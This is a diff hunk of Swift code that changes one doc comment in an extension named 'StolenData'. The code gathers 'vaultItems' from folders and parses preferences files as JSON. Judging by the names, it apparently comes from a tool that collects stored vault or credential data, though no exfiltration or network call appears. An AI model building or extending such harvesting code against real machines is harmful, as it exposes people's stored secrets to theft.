@@ -143,7 +143,7 @@ extension StolenData {
         for path in folders.sorted() { add(StolenData.vaultItems(in: path)) }
     }
 
-    /// The texts of a preferences file; nil where the file is none.
+    /// The texts of a preferences file; nil if the file is not a preferences file.
     private static func members(_ bytes: [UInt8]) -> [[UInt8]]? {
         guard let document = try? JSONReader.read(bytes), let members = document.root.members else {
             return nil
